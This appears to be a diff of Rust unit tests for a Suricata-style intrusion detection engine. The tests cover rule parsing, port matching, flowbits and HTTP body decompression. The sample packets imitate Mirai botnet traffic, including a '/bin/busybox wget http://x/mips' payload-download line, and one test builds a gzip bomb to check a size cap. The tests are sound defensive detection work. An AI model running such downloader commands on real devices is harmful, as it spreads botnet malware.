@@ -201,3 +201,149 @@ proptest::proptest! {
         fuzzing::parse_rule(&bytes);
     }
 }
+
+#[test]
+fn pcre_flags_switch_on() {
+    // `i` must enable case folding (it was once emitted after the `-` and so disabled).
+    let r = rule(r#"alert tcp any any -> any any (msg:"m"; pcre:"/^Hello, World$/i"; sid:1;)"#);
+    let c = r.buffers.get(&Buf::Payload).cloned().unwrap_or_default();
+    assert!(inspect::inspect(&c, b"hello, world").is_some());
+    let r = rule(r#"alert tcp any any -> any any (msg:"m"; pcre:"/^a.b$/s"; sid:1;)"#);
+    let c = r.buffers.get(&Buf::Payload).cloned().unwrap_or_default();
+    assert!(inspect::inspect(&c, b"a\nb").is_some());
+    let r = rule(r#"alert tcp any any -> any any (msg:"m"; pcre:"/^a.b$/"; sid:1;)"#);
+    let c = r.buffers.get(&Buf::Payload).cloned().unwrap_or_default();
+    assert!(inspect::inspect(&c, b"a\nb").is_none());
+    assert!(inspect::inspect(&c, b"A.b").is_none());
+}
+
+#[test]
+fn http_message_without_headers_has_no_header_buffers() {
+    let tx = http::request(b"GET /x HTTP/1.0\r\n\r\n", 100);
+    assert!(
+        tx.as_ref()
+            .is_some_and(|t| t.get(Buf::HttpUri) == Some(&b"/x"[..]))
+    );
+    assert!(
+        tx.as_ref()
+            .is_some_and(|t| t.get(Buf::HttpHeaderNames).is_none())
+    );
+    let tx = http::request(b"GET /x HTTP/1.0\r\nAccept: */*\r\n\r\n", 100);
+    assert!(tx.is_some_and(|t| t.get(Buf::HttpHeaderNames) == Some(&b"\r\nAccept\r\n\r\n"[..])));
+}
+
+fn engine(rules: &str) -> RuleEngine {
+    let (set, rep) = RuleSet::from_text(&[("t.rules".into(), rules.into())], &BTreeMap::new());
+    assert!(rep.rejected.is_empty(), "{:?}", rep.rejected);
+    RuleEngine::new(Arc::new(set))
+}
+
+fn pkt(proto: u8, sport: u16, dport: u16, payload: &[u8]) -> PacketInfo<'_> {
+    PacketInfo {
+        ts: 1,
+        ordinal: 1,
+        proto,
+        src: v4([203, 0, 113, 7]),
+        dst: v4([192, 168, 1, 1]),
+        sport,
+        dport,
+        to_server: true,
+        established: true,
+        tcp_flags: 0x18,
+        tcp_seq: 1000,
+        icmp: None,
+        payload,
+        device: None,
+    }
+}
+
+#[test]
+fn port_groups_select_rules_by_port() {
+    let mut e = engine(
+        "alert tcp any any -> any 23 (msg:\"a\"; content:\"busybox\"; sid:1;)\n\
+         alert tcp any any -> any [2323,8000:8100] (msg:\"b\"; content:\"busybox\"; sid:2;)\n\
+         alert udp any 1985 <> any 1985 (msg:\"c\"; content:\"hsrp\"; sid:3;)\n\
+         alert tcp any any -> any !23 (msg:\"d\"; content:\"busybox\"; sid:4;)\n",
+    );
+    let sids = |e: &mut RuleEngine, p: PacketInfo<'_>| {
+        e.events.clear();
+        let mut st = None;
+        e.packet(&mut st, &p);
+        let mut v: Vec<u32> = e.events.iter().map(|ev| ev.sid).collect();
+        v.sort_unstable();
+        v
+    };
+    assert_eq!(sids(&mut e, pkt(6, 40000, 23, b"/bin/busybox")), vec![1]);
+    assert_eq!(
+        sids(&mut e, pkt(6, 40000, 8050, b"/bin/busybox")),
+        vec![2, 4]
+    );
+    assert_eq!(sids(&mut e, pkt(6, 40000, 8101, b"/bin/busybox")), vec![4]);
+    assert_eq!(sids(&mut e, pkt(17, 1985, 1985, b"hsrp")), vec![3]);
+    assert_eq!(
+        sids(&mut e, pkt(17, 1985, 1986, b"hsrp")),
+        Vec::<u32>::new()
+    );
+    assert_eq!(
+        sids(&mut e, pkt(6, 40000, 23, b"nothing")),
+        Vec::<u32>::new()
+    );
+}
+
+#[test]
+fn stream_match_after_flowbit_set_later() {
+    // Suricata inspects the stream when it is flushed, so a thresholded `isset` rule whose
+    // content came before the setter's still alerts once the bit is set.
+    let mut e = engine(
+        "alert tcp any any -> any 23 (msg:\"set\"; flow:to_server,established; content:\"/bin/busybox\"; flowbits:set,bb; flowbits:noalert; sid:1;)\n\
+         alert tcp any any -> any 23 (msg:\"en\"; flow:to_server,established; content:\"enable\"; flowbits:isset,bb; threshold: type limit, count 1, track by_src, seconds 30; sid:2;)\n",
+    );
+    let mut st = None;
+    let mut a = pkt(6, 40000, 23, b"enable\r\n");
+    e.packet(&mut st, &a);
+    assert!(e.events.is_empty());
+    a.tcp_seq = 1008;
+    a.payload = b"/bin/busybox MIRAI\r\n";
+    e.packet(&mut st, &a);
+    assert_eq!(
+        e.events.iter().map(|ev| ev.sid).collect::<Vec<_>>(),
+        vec![2]
+    );
+}
+
+#[test]
+fn gzip_and_deflate_response_bodies_are_decoded_and_bounded() {
+    use std::io::Write;
+    let plain = b"<html>/bin/busybox wget http://x/mips</html>";
+    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
+    let _ = gz.write_all(plain);
+    let gz = gz.finish().unwrap_or_default();
+    let mut zl = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
+    let _ = zl.write_all(plain);
+    let zl = zl.finish().unwrap_or_default();
+    for (enc, body) in [("gzip", &gz), ("deflate", &zl)] {
+        let mut msg = format!(
+            "HTTP/1.1 200 OK\r\nContent-Encoding: {enc}\r\nContent-Length: {}\r\n\r\n",
+            body.len()
+        )
+        .into_bytes();
+        msg.extend_from_slice(body);
+        let tx = http::response(&msg, 1000);
+        assert_eq!(
+            tx.as_ref().and_then(|t| t.get(Buf::HttpResponseBody)),
+            Some(&plain[..]),
+            "{enc}"
+        );
+    }
+    // A bomb: 10 MB of zeros stops at the cap.
+    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
+    let _ = gz.write_all(&vec![0u8; 10 << 20]);
+    let bomb = gz.finish().unwrap_or_default();
+    let headers: Vec<(&[u8], &[u8])> = vec![(b"Content-Encoding", b"gzip")];
+    assert_eq!(http::decode_body(&headers, bomb, 4096).len(), 4096);
+    // Not gzip at all: the raw bytes stay.
+    assert_eq!(
+        http::decode_body(&headers, b"plain".to_vec(), 4096),
+        b"plain"
+    );
+}
